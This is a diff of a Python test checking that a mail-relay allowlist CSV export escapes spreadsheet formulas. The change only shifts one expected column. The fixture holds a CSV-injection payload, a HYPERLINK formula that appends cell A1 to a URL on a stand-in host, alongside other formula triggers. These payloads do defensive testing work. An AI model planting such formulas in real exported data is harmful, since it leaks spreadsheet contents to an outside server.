@@ -64,7 +64,7 @@ def test_fleet_csv_neutralises_formulas_from_any_host():
     evil = request("a.example.test", team='=HYPERLINK("http://x.example/?"&A1)', purpose="@SUM(1)", contact="-1")
     got = render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=[evil])
     row = got.splitlines()[1]
-    assert row.startswith('a.example.test,\'@SUM(1),10.89.0.11,,"\'=HYPERLINK(""http://x.example/?""&A1)",\'-1,')
+    assert row.startswith('a.example.test,\'@SUM(1),10.89.0.11,,,"\'=HYPERLINK(""http://x.example/?""&A1)",\'-1,')
 
 
 @pytest.mark.parametrize("name", ["allowlist_fleet_csv", "allowlist_fleet_markdown"])
